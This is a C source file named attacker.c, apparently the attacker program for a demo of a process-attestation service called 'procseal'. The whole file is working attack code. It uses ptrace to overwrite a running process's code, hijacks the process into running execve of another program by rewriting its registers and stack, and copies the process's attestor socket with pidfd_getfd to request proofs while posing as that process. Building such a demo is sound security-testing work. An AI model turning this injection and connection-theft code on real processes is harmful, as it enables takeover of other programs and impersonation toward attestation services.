/* What a user can do to a process of the same user: the attacker of the demo. The operator does
 * not know this program; it lies in the user's own folder.
 *
 *   attacker patch PID            change some of its text, with ptrace: code that it has run
 *   attacker execute PID PROGRAM  make the process execute another program
 *   attacker borrow PID AUDIENCE METHOD URL
 *                                 take a copy of its connection to the attestor, and ask for a
 *                                 proof on it as if one were the process; print the answer
 *
 * Exit status: 0 done, 2 misused, 3 the kernel did not allow it.
 *
 * Build: gcc -O2 -Wall -Wextra -o attacker attacker.c; for x86-64.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define RED_ZONE 128 /* bytes below the stack's end that belong to the program (System V ABI) */
#define WORD sizeof(long)

__attribute__((noreturn)) static void die(const char *what)
{
    perror(what);
    exit(3);
}

static void stop(pid_t pid, struct user_regs_struct *registers)
{
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
        die("PTRACE_ATTACH");
    if (waitpid(pid, NULL, __WALL) != pid)
        die("waitpid");
    if (ptrace(PTRACE_GETREGS, pid, NULL, registers) < 0)
        die("PTRACE_GETREGS");
}

static void let_go(pid_t pid)
{
    if (ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0)
        die("PTRACE_DETACH");
}

/* Write whole words; what lies behind the end of `data` in its last word is set to zero. */
static void write_to(pid_t pid, uintptr_t address, const void *data, size_t size)
{
    for (size_t done = 0; done < size; done += WORD) {
        long word = 0;
        memcpy(&word, (const char *)data + done, size - done < WORD ? size - done : WORD);
        if (ptrace(PTRACE_POKETEXT, pid, address + done, word) < 0)
            die("PTRACE_POKETEXT");
    }
}

/* Return where the program's own text begins: the first executable mapping. */
static uintptr_t text_of(pid_t pid)
{
    char name[64], line[PATH_MAX + 128], permissions[5] = "";
    uintptr_t start = 0, end;
    snprintf(name, sizeof name, "/proc/%d/maps", pid);
    FILE *maps = fopen(name, "r");
    if (!maps)
        die(name);
    while (fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %4s", &start, &end, permissions) == 3 && permissions[2] == 'x')
            break;
    fclose(maps);
    return start;
}

static void patch(pid_t pid)
{
    struct user_regs_struct registers;
    stop(pid, &registers);
    /* Its first bytes (the start-up code) have long been run: the process goes on as before. */
    unsigned char change[WORD];
    memset(change, 0xcc, sizeof change);
    write_to(pid, text_of(pid), change, sizeof change);
    let_go(pid);
}

/* The process waits in a system call: the instruction before is the one to make another. */
static void execute(pid_t pid, const char *program)
{
    struct user_regs_struct registers;
    stop(pid, &registers);
    size_t size = (strlen(program) + 1 + WORD - 1) / WORD * WORD;
    uintptr_t name = (registers.rsp - RED_ZONE - size - 2 * WORD) & ~(uintptr_t)15;
    uintptr_t list[2] = {name, 0}; /* its arguments; and from the second on, its environment */
    write_to(pid, name, program, strlen(program) + 1);
    write_to(pid, name + size, list, sizeof list);
    registers.rax = SYS_execve;
    registers.rdi = name;
    registers.rsi = name + size;
    registers.rdx = name + size + WORD;
    registers.rip -= 2; /* the length of `syscall` */
    registers.orig_rax = (unsigned long long)-1; /* nothing to take up again */
    if (ptrace(PTRACE_SETREGS, pid, NULL, &registers) < 0)
        die("PTRACE_SETREGS");
    let_go(pid);
}

/* Return a copy of the process's one socket of the kind that attestors have. */
static int take_connection(pid_t pid)
{
    char name[64];
    snprintf(name, sizeof name, "/proc/%d/fd", pid);
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    DIR *directory = opendir(name);
    if (pidfd < 0 || !directory)
        die(name);
    for (struct dirent *one; (one = readdir(directory));) {
        int copy = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(one->d_name), 0), kind = 0;
        socklen_t length = sizeof kind;
        if (*one->d_name == '.' || copy < 0)
            continue;
        if (getsockopt(copy, SOL_SOCKET, SO_TYPE, &kind, &length) == 0 && kind == SOCK_SEQPACKET)
            return copy;
        close(copy);
    }
    errno = ENOENT;
    die("a connection to the attestor");
}

static void borrow(pid_t pid, const char *audience, const char *method, const char *url)
{
    static char text[1 << 16];
    int connection = take_connection(pid);
    int length = snprintf(text, sizeof text,
                          "procseal/1 prove\naudience: %s\nmethod: %s\nurl: %s\n", audience,
                          method, url);
    if (send(connection, text, (size_t)length, MSG_NOSIGNAL) != length)
        die("send");
    ssize_t got = recv(connection, text, sizeof text - 1, 0);
    if (got < 0)
        die("recv");
    text[got] = 0;
    printf("%s", got ? text : "the attestor has ended the connection\n");
}

int main(int count, char **arguments)
{
    const char *verb = count > 2 ? arguments[1] : "";
    pid_t pid = count > 2 ? atoi(arguments[2]) : 0;
    if (strcmp(verb, "patch") == 0 && count == 3)
        patch(pid);
    else if (strcmp(verb, "execute") == 0 && count == 4)
        execute(pid, arguments[3]);
    else if (strcmp(verb, "borrow") == 0 && count == 6)
        borrow(pid, arguments[3], arguments[4], arguments[5]);
    else {
        fprintf(stderr, "attacker: misused; see the top of attacker.c\n");
        return 2;
    }
    printf("done\n");
    return 0;
}
